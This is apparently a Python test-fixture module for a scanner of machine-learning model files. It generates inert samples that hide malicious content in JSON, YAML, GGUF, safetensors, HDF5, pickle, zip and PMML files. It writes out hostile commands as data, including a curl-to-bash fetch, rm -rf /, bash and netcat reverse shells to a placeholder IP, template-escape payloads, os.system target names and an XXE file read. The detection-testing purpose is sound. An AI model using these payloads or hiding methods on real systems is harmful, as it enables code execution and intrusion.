"""Malicious files that a blind set showed to be missed, one for each way of hiding.

The set (538 files) was written from public advisories and the tests of other scanners without a
look at this project's lists; what it found is told in ``docs/inspection-model-files.md``. Inert,
as all samples here.
"""

from __future__ import annotations

import gzip
import json
import struct
from typing import Final

from tests.probes.artifacts import assemble as a
from tests.probes.artifacts.test_keras import HDF5
from tests.probes.artifacts.test_tensor_files import GOOD, TENSORS, gguf, pair, safetensors, string

_COMMANDS: Final = {
    "pipe": "curl -s http://x.invalid/p.sh | bash",
    "remove": "; rm -rf / --no-preserve-root",
    "connect": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "substitute": "$(curl http://x.invalid/p)",
    "netcat": "nc -e /bin/sh 192.0.2.1 4444",
    "fetch": "wget http://x.invalid/a -O /a && chmod +x /a && /a",
    "encoded": "powershell -nop -w hidden -enc SQBFAFgA",
    "import": "__import__('os').system('true')",
    "base64": "exec(base64.b64decode('cHJpbnQoMSk='))",
    "lambda": "lambda x: eval(x)",
}
_ESCAPES: Final = {
    "globals": "{{ config.__class__.__init__.__globals__['os'].system('true') }}",
    "import": "{{ __import__('subprocess').call(['true']) }}",
    "map": "{{ messages|map(attribute='__class__')|list }}",
}
_NAMES: Final = {
    "joined": "a: os\nb: system\nm:\n  _target_: ${a}.${b}\n",
    "alias": "x: &t os.system\nm:\n  _target_: *t\n",
    "reference": "safe: os.system\nm:\n  _target_: ${safe}\n",
    "unknown-reference": "m:\n  _target_: ${oc.env:X}\n",
    "class-path": "m:\n  class_path: subprocess.Popen\n  init_args: {args: x}\n",
    "target": "m:\n  target: os.system\n  params: {command: x}\n",
    "tag-directive": "%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\n"
    "a: !p!os.system ['x']\n",
    "java": "!!javax.script.ScriptEngineManager [x]\n",
}


def unseen() -> dict[str, bytes]:
    """File name -> contents."""
    return _texts() | _places()


def _texts() -> dict[str, bytes]:
    samples: dict[str, bytes] = {}
    for name, text in _COMMANDS.items():
        samples[f"command-{name}.json"] = json.dumps({"model_type": "x", "init": text}).encode()
        samples[f"command-{name}.yaml"] = f"init: {json.dumps(text)}\n".encode()
        samples[f"command-{name}.gguf"] = gguf([pair("custom.init", 8, string(text))], TENSORS)
        samples[f"command-{name}.safetensors"] = safetensors(
            {"__metadata__": {"init": text}, **GOOD}
        )
    for name, text in _ESCAPES.items():
        samples[f"template-{name}.yaml"] = f"greeting: {json.dumps(text)}\n".encode()
        samples[f"template-{name}.j2"] = text.encode()
        samples[f"template-{name}.json"] = json.dumps({"my_template": text}).encode()
        several = struct.pack("<IQ", 8, 1) + string(text)
        samples[f"templates-{name}.gguf"] = gguf(
            [pair("tokenizer.chat_templates", 9, several)], TENSORS
        )
    for name, text in _NAMES.items():
        samples[f"name-{name}.yaml"] = text.encode()
    return samples | {
        "name-key.json": json.dumps({"restore_fn": "os.system"}).encode(),
        "name-pair.json": json.dumps({"q": {"module": "os", "class": "system"}}).encode(),
        "pipeline.json": json.dumps({"_class_name": ["pipeline", "Evil"]}).encode(),
        "start.pth": b"import os; os.system('true')\n",
    }


def _places() -> dict[str, bytes]:
    packed, first = gzip.compress(a.EVIL), a.zipped({"hidden.pkl": a.EVIL})
    dense = json.dumps({"class_name": "Sequential", "config": {"layers": []}}).encode()

    def compiled(**training: object) -> bytes:
        return HDF5 + bytes(900) + dense + bytes(9) + json.dumps(training).encode() + bytes(9)

    adam = {"class_name": "Adam", "config": {}}
    entity = (
        '<!DOCTYPE P [<!ENTITY x SYSTEM "file:///etc/x">]><PMML version="4"><A b="&x;"/></PMML>'
    )
    return {
        "checksum.pkl.gz": packed[:-8] + bytes(8),
        "after-text.bin": b"%PDF-1.4\n" + b"x" * 40 + a.EVIL,
        "after-zeros.bin": bytes(64) + a.EVIL,
        "protocol-9.pkl": b"\x80\x09" + a.EVIL[2:],
        "in-hdf5.h5": HDF5 + bytes(900) + a.EVIL,
        "first-member.zip": first[: first.find(b"PK\x01\x02")] + a.zipped({"k.txt": b"hello"}),
        "loss_injection.h5": compiled(loss="malicious_loss", optimizer_config=adam),
        "loss-of-output.h5": compiled(loss={"out": "malicious_loss"}),
        "metric.h5": compiled(loss="mse", metrics=[{"class_name": "EvilMetric", "config": {}}]),
        "entity-other-name.pmml": entity.encode(),
        "entity-utf-16.pmml": f'<?xml version="1.0" encoding="utf-16"?>{entity}'.encode("utf-16"),
        "encoding.pmml": b'<?xml version="1.0" encoding="UTF-7"?><PMML version="4"/>',
        "function.pmml": b'<PMML version="4"><Apply function="java.lang.Runtime.exec"/></PMML>',
        "program.gguf": b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + bytes(8) + b"\x7fELF\x02\x01\x01"
        + bytes(300),
        "length-of-all.safetensors": struct.pack("<Q", 1 << 60) + b"{}",
    }  # fmt: skip
